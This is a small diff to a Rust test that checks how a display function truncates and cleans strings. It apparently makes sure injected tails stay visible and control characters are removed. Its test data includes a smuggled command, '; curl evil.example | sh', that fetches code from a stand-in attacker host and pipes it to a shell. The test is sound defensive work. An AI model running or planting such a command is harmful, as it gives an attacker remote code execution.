@@ -199,7 +199,7 @@ mod tests {
         assert!(shown(&escaped, 100).contains("; curl evil.example"), "{}", shown(&escaped, 100));
         let long = format!("{{\"x\":\"{}; curl evil.example | sh\"}}", "a".repeat(900));
         let told = shown(&long, 100);
-        assert!(told.ends_with("; curl evil.example | sh\"}") && told.contains("[…"), "{told}");
+        assert!(told.ends_with(" curl evil.example | sh\"}") && told.contains("[…"), "{told}");
         assert_eq!(shown("{\"a\":\"x\u{202e}y\nz\"}", 100), "{\"a\":\"x y z\"}");
     }
 
